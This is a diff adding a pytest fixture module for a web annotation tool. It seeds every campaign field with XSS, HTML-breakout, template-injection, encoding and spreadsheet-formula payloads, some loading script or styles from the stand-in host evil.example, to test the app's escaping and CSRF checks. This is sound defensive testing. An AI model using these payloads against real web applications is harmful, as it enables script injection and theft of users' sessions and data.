@@ -1,0 +1,295 @@
+"""A campaign whose every text field holds an attack, and people who come to it with bad intentions.
+
+The suite is invented: for every attack one line that holds it and one with the pronoun.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from functools import cache
+from pathlib import Path
+from typing import Any
+
+import pytest
+from litestar import Litestar
+from litestar.testing import TestClient
+
+from anaphor.align import AlignerChoice
+from anaphor.annotate.access import add_link, find_session, open_session
+from anaphor.annotate.answers import save_answer
+from anaphor.annotate.assigning import Shares
+from anaphor.annotate.assignments import list_assignments
+from anaphor.annotate.create import Wishes, create_campaign
+from anaphor.annotate.nouns import Answer, Mark, Mode
+from anaphor.annotate.people import add_lead, find_person
+from anaphor.annotate.store import Store, open_store
+from anaphor.annotate.views import assignment_view
+from anaphor.annotate.web import Settings, create_app
+from anaphor.core import (
+    Alignment,
+    Antecedent,
+    Category,
+    Item,
+    LanguagePair,
+    ReferencePair,
+    Span,
+    Suite,
+    SuiteDocument,
+)
+from anaphor.corpus import AlignmentFile, Text
+from anaphor.suite import GivenLinks, LoadedSuite, Options, SuiteTexts
+
+SOURCE = Path(__file__).resolve().parents[3] / "src"
+PASSWORD = "a long enough password"  # noqa: S105 - of a lead in these tests
+
+#: Ways out of text, attributes, elements and templates. `evil` marks what comes from outside.
+ATTACKS = (
+    "<script>evil()</script>",
+    "</script><script>evil()</script>",
+    "<img src=x onerror=evil()>",
+    "<svg/onload=evil()>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    '" onmouseover="evil()" x="',
+    "' onfocus='evil()' autofocus='",
+    "` onclick=`evil()",
+    '"><iframe srcdoc="&lt;script&gt;evil()&lt;/script&gt;">',
+    "</textarea><script>evil()</script>",
+    "</title><script>evil()</script>",
+    "</option></select><img src=x onerror=evil()>",
+    "--><script>evil()</script><!--",
+    "]]><script>evil()</script>",
+    "<![CDATA[<script>evil()</script>]]>",
+    "javascript:evil()",
+    "<a href=javascript:evil()>evil</a>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import'//evil.example/x.css';</style>",
+    "<form action=//evil.example><button>evil</button></form>",
+    "<math><mtext></p><img src=x onerror=evil()>",
+    "<noscript><p title='</noscript><img src=x onerror=evil()>'>",
+    "&lt;script&gt;evil()&lt;/script&gt;",
+    "&#60;script&#62;evil()",
+    "{{evil.__class__.__mro__}}",
+    "{%for+evil+in+().__class__.__base__.__subclasses__()%}{%endfor%}",
+    "${evil}#{evil}<%=evil%>",
+    "%3Cscript%3Eevil()%3C/script%3E",
+    "\uff1cscript\uff1eevil()\uff1c/script\uff1e",
+    "evil\u202egnp.exe",
+    "evil\x1b[2J\x07",
+    "=HYPERLINK('//evil.example')",
+)
+#: A name stands on one line and is printable.
+NAMES = tuple(one for one in ATTACKS if one.isprintable() and len(one) <= 80)
+
+
+def attacked_suite(system: str = "Elle") -> tuple[LoadedSuite, Text]:
+    """A suite with an attack before every pronoun, and a candidate with the same."""
+    lines = [line for attack in ATTACKS for line in (f"A lamp {attack} .", "It is bright .")]
+    human = [line for attack in ATTACKS for line in (f"Une lampe {attack} .", "Elle est vive .")]
+    given = [line.replace("Elle", system) for line in human]
+    source, reference = Text.of(lines, path="source"), Text.of(human, path="human")
+    items, here, there = [], 0, 0
+    for number in range(len(ATTACKS)):
+        head, human_head = (Span(here + 2, here + 6),), (Span(there + 4, there + 9),)
+        here, there = here + len(lines[2 * number]) + 1, there + len(human[2 * number]) + 1
+        known = ReferencePair("human", (Span(there, there + 4),), (human_head,))
+        pronoun = (Span(here, here + 2),)
+        items.append(Item(f"item {number}", "home", NAMES[0], pronoun, (Antecedent(head, head),), (known,)))
+        here, there = here + len(lines[2 * number + 1]) + 1, there + len(human[2 * number + 1]) + 1
+    category = Category(NAMES[0], True, " ".join(ATTACKS[:20]))
+    document = SuiteDocument("home", len(lines), source.digest, {"human": reference.digest})
+    pair = LanguagePair("en", "fr")
+    suite = Suite(NAMES[1], "1", pair, NAMES[2], NAMES[3], (category,), (document,), tuple(items))
+    texts = SuiteTexts({"home": source}, {"human": {"home": reference}})
+    return LoadedSuite(suite, texts), Text.of(given, path="candidate")
+
+
+def make(path: Path, mode: Mode) -> None:
+    """The campaign: three systems, three annotators, all with names that attack."""
+    words = {f"secret {name}": word for name, word in zip(NAMES[2:5], ("Elle", "Il", "Ce"), strict=True)}
+    found = {name: attacked_suite(word) for name, word in words.items()}
+    loaded, _ = attacked_suite()
+    texts = {name: text for name, (_, text) in found.items()}
+    links = [Alignment((0, 1), (0, 1)), Alignment((0, 1, 2), (0, 1, 2))] * len(ATTACKS)
+    files = {name: AlignmentFile.made(links, path=name) for name in texts}
+    given = GivenLinks(Text.of(loaded.texts.source_lines, path="source"), files)
+    wishes = Wishes(
+        annotators=NAMES[5:8],
+        mode=mode,
+        name=NAMES[4],
+        shares=Shares(overlap=1.0, batch_size=20),
+        tags=NAMES[10:14],
+        guidelines="\n".join(ATTACKS),
+    )
+    options = Options(aligner=AlignerChoice(pair=loaded.suite.pair), tokenised=True)
+    create_campaign(path, loaded, texts, options, wishes, links=given)
+
+
+@dataclass(frozen=True, slots=True)
+class Visitor:
+    """Somebody with a browser of their own; `token` is what their forms bring along."""
+
+    client: TestClient[Litestar]
+    token: str = ""
+
+    def get(self, path: str, **options: Any) -> Any:
+        return self.client.get(path, follow_redirects=False, **options)
+
+    def post(self, path: str, form: dict[str, Any] | None = None, **options: Any) -> Any:
+        content = {"csrf": self.token, **(form or {})}
+        return self.client.post(path, data=content, follow_redirects=False, **options)
+
+    def send(self, path: str, content: object) -> Any:
+        headers = {"X-CSRF-Token": self.token, "Content-Type": "application/json"}
+        return self.client.post(path, content=json.dumps(content), headers=headers)
+
+
+@dataclass(frozen=True, slots=True)
+class Site:
+    """A campaign that is served in memory."""
+
+    store: Store
+    app: Litestar
+
+    def stranger(self) -> Visitor:
+        visitor = Visitor(TestClient(self.app, base_url="http://127.0.0.1", raise_server_exceptions=False))
+        found = re.search(r'name="csrf" value="([^"]+)"', visitor.get("/").text)
+        assert found is not None
+        return Visitor(visitor.client, found[1])
+
+    def visitor(self, name: str) -> Visitor:
+        """Somebody who is signed in."""
+        token = open_session(self.store, find_person(self.store, name).id)
+        session = find_session(self.store, token)
+        assert session is not None
+        cookies = {self.app.state["desk"].cookie: token}
+        client = TestClient(
+            self.app, base_url="http://127.0.0.1", cookies=cookies, raise_server_exceptions=False
+        )
+        return Visitor(client, session.csrf)
+
+    def annotator(self, number: int = 0) -> Visitor:
+        return self.visitor(NAMES[5 + number])
+
+    def lead(self) -> Visitor:
+        return self.visitor("Lea")
+
+    def link(self, number: int = 0, *, days: float = 1) -> str:
+        return add_link(self.store, NAMES[5 + number], days=days, by="test")
+
+    def items(self, number: int = 0) -> list[str]:
+        return items_of(self.store, number)
+
+
+def items_of(store: Store, number: int) -> list[str]:
+    """The ids of what somebody is asked."""
+    person = find_person(store, NAMES[5 + number]).id
+    return [row.id for row in list_assignments(store, person)]
+
+
+def answer_all(store: Store) -> None:
+    """Everybody answers everything with remarks and tags that attack; two agree, one does not."""
+    tags = tuple(one for one in NAMES if "," not in one and len(one) <= 60)
+    for number in range(3):
+        person = find_person(store, NAMES[5 + number]).id
+        for place, item in enumerate(items_of(store, number)):
+            attack = ATTACKS[place % len(ATTACKS)]
+            view = assignment_view(store, person, item)
+            answer = Answer(
+                pronoun=Mark.UNSET if view.mode is not Mode.JUDGE else Mark.NO if number else Mark.YES,
+                order=((view.slots[0],), view.slots[1:]) if view.mode is Mode.COMPARE else (),
+                tags=(tags[place % len(tags)],),
+                remark=f"{attack}\n{attack}",
+            )
+            save_answer(store, person, item, answer, version=0, request=f"request-{number}-{place}")
+
+
+@dataclass(frozen=True, slots=True)
+class Running:
+    """A server, and its campaign as seen from outside of it."""
+
+    site: Site
+    port: int
+
+
+@pytest.fixture(scope="session")
+def attacked_file(tmp_path_factory: pytest.TempPathFactory) -> Callable[..., Path]:
+    """The campaign in each mode, with and without answers; each is made once."""
+
+    @cache
+    def file(mode: Mode, *, answered: bool) -> Path:
+        path = tmp_path_factory.mktemp("attacked") / "campaign.db"
+        if answered:
+            shutil.copy(file(mode, answered=False), path)
+        else:
+            make(path, mode)
+        store = open_store(path)
+        if answered:
+            answer_all(store)
+        else:
+            add_lead(store, "Lea", PASSWORD)
+        store.close()
+        return path
+
+    return file
+
+
+@pytest.fixture
+def attack(attacked_file: Callable[..., Path], tmp_path: Path) -> Iterator[Callable[..., Site]]:
+    """Serves a copy of the campaign in a mode."""
+    stores: list[Store] = []
+
+    def serve(mode: Mode = Mode.JUDGE, settings: Settings | None = None, *, answered: bool = False) -> Site:
+        file = attacked_file(mode, answered=answered)
+        stores.append(open_store(shutil.copy(file, tmp_path / f"{len(stores)}.db")))
+        return Site(stores[-1], create_app(stores[-1], settings))
+
+    yield serve
+    for store in stores:
+        store.close()
+
+
+@pytest.fixture
+def site(attack: Callable[..., Site]) -> Site:
+    """The campaign in which pronouns are judged."""
+    return attack()
+
+
+@pytest.fixture(scope="module")
+def running(
+    attacked_file: Callable[..., Path], tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[Running]:
+    """The real server over a real socket, for requests that no proper client would send."""
+    file = attacked_file(Mode.JUDGE, answered=False)
+    path = Path(shutil.copy(file, tmp_path_factory.mktemp("running") / "campaign.db"))
+    command = [
+        sys.executable,
+        "-m",
+        "anaphor.cli.main",
+        "annotate",
+        "serve",
+        str(path),
+        "--no-open",
+        "--port",
+        "0",
+    ]
+    environment = {**os.environ, "PYTHONPATH": str(SOURCE)}
+    process = subprocess.Popen(command, stderr=subprocess.PIPE, text=True, env=environment)
+    try:
+        assert process.stderr is not None
+        found = re.search(r":(\d+)/", process.stderr.readline())
+        assert found is not None
+        store = open_store(path)
+        yield Running(Site(store, create_app(store)), int(found[1]))
+        store.close()
+    finally:
+        process.kill()
+        process.communicate()
